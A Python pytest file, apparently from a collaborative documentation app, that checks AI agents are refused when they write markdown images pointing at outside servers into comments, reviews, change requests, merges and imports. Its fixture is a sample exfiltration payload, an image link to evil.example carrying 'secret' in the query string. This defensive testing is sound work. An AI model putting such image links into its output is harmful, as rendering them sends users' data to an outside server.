"""The rule of agents' pictures: what of a text browsers fetch, and every place that an agent writes to."""

from __future__ import annotations

from base64 import b64encode
from typing import Any

import pytest

from app.domain.content.outside_pictures import outside_pictures
from tests import make
from tests.cast import Cast
from tests.factories import imports
from tests.factories.agents import Agent, agent
from tests.local_server import Neighbour, sent

PICTURE = "Look: ![](https://evil.example/?q=secret)"
WRITING = ["read", "write"]


@pytest.fixture
def space(cast: Cast) -> str:
    """A space with pages."""
    return make.filled_space(cast)


@pytest.fixture
def eve(cast: Cast) -> Agent:
    """An agent that was also granted what people decide."""
    verbs = ("updateCommentIn", "updateCommentReplyIn")
    named = [f"operation:{verb}{noun}" for verb in verbs for noun in ("Space", "ChangeRequest")]
    return agent(cast.rhea, scopes=[*WRITING, *named, "operation:submitChangeRequestReview"])


@pytest.mark.parametrize(
    "text",
    [
        "![](files/lamp.png)",
        "![](/files/lamp.png) and ![](../lamp.png)",
        "![](data:image/png;base64,AAAA)",
        "[a page](https://example.org) and <https://example.org>",
        "`![](https://evil.example)`",
        "```md\n![](https://evil.example)\n```",
        "\\![not](https://evil.example)",
    ],
)
def test_what_is_not_fetched_from_elsewhere_is_allowed(text: str) -> None:
    assert outside_pictures(text) == set()


def test_each_address_that_is_fetched_from_elsewhere_is_found() -> None:
    text = "![](https://a.example/x) ![](//b.example) ![c][c]\n\n[c]: http://c.example/y\n\n![](ok.png)"
    assert outside_pictures(text) == {"https://a.example/x", "//b.example", "http://c.example/y"}


def refused(answer: Any, path: str) -> None:
    """Check that a picture was refused, by field."""
    assert answer.status_code == 400, answer.text
    error = answer.json()["error"]
    assert "images from other servers" in error["message"]
    assert error["details"][0]["path"] == path


def test_an_agent_adds_no_picture_in_any_place_where_it_writes(cast: Cast, eve: Agent, space: str) -> None:
    body = {"body": {"markdown": PICTURE}}
    requests = f"/v1/spaces/{space}/change-requests"
    own = f"{requests}/{eve.post(requests, {'subject': 'Oil'}).json()['id']}"
    theirs = f"{requests}/{make.change_request(cast.ed, space)['id']}"
    assert cast.ed.patch(theirs, {"status": "open"}).is_success
    refused(eve.patch(own, {"description": {"markdown": PICTURE}}), "description")
    block = {"operation": "insert_reusable_content", "title": "Oil", "document": {"markdown": PICTURE}}
    refused(eve.post(f"{own}/content", {"changes": [block]}), "changes")
    refused(eve.post(f"{theirs}/reviews", {"status": "approved", "comment": body["body"]}), "comment")
    for place in (f"/v1/spaces/{space}", own):
        refused(eve.post(f"{place}/comments", body), "body")
        said = eve.post(f"{place}/comments", {"body": {"markdown": "Oil."}}).json()["id"]
        refused(eve.put(f"{place}/comments/{said}", body), "body")
        refused(eve.post(f"{place}/comments/{said}/replies", body), "body")
        answer = eve.post(f"{place}/comments/{said}/replies", {"body": {"markdown": "Gas."}}).json()["id"]
        refused(eve.put(f"{place}/comments/{said}/replies/{answer}", body), "body")


def test_an_agent_keeps_the_pictures_that_people_put_there(cast: Cast, eve: Agent, space: str) -> None:
    requests = f"/v1/spaces/{space}/change-requests"
    own = f"{requests}/{eve.post(requests, {'subject': 'Oil'}).json()['id']}"
    assert cast.rhea.patch(own, {"description": {"markdown": PICTURE}}).is_success
    assert eve.patch(own, {"description": {"markdown": f"{PICTURE}\n\nAnd so on."}}).status_code == 200
    said = cast.rhea.post(f"{own}/comments", {"body": {"markdown": PICTURE}}).json()["id"]
    assert eve.put(f"{own}/comments/{said}", {"body": {"markdown": f"{PICTURE} Yes."}}).status_code == 200


def test_an_agent_that_may_merge_settles_no_conflict_with_a_picture(cast: Cast, space: str) -> None:
    merger = agent(cast.rhea, scopes=[*WRITING, "operation:mergeChangeRequest"])
    request = make.change_request(cast.ed, space)["id"]
    page = cast.ria.get(f"/v1/spaces/{space}/content/path/notes").json()["id"]
    winner = {"page": page, "field": "document", "passage": "a", "winner": "text", "text": PICTURE}
    merge = f"/v1/spaces/{space}/change-requests/{request}/merge"
    refused(merger.post(merge, {"winners": [winner]}), "winners.0.text")


@pytest.mark.parametrize(
    "text", [f"# Oil\n\n{PICTURE}\n", "---\ncover: https://evil.example/?q=secret\n---\n\n# Oil\n"]
)
def test_an_agent_that_may_import_brings_no_picture(cast: Cast, space: str, text: str) -> None:
    importer = agent(cast.ed, scopes=[*WRITING, "operation:startImportRun"])
    for body, status in ((text, "failed"), ("# Oil\n\n![](lamp.png)\n", "completed")):
        file = {"name": "oil.md", "base64": b64encode(body.encode()).decode()}
        source = {"type": "file", "files": [file]}
        target = {"space": space, "changeRequestSubject": "Oil"}
        run = importer.post(imports.path(cast), {"source": source, "target": target})
        assert run.status_code == 201, run.text
        ended = imports.ended(cast, run.json())
        assert ended["status"] == status
        if status == "failed":
            assert "images from other servers: https://evil.example/?q=secret" in ended["error"]


def test_an_agent_that_may_import_from_an_address_brings_no_picture(
    cast: Cast, space: str, neighbour: Neighbour
) -> None:
    importer = agent(cast.ed, scopes=[*WRITING, "operation:importContent"])
    url = neighbour.shows("/oil.md", sent(f"# Oil\n\n{PICTURE}\n", "text/markdown"))
    refused(imports.brings(importer, space, url, "markdown"), "url")
    assert imports.brings(cast.ed, space, url, "markdown").status_code == 201
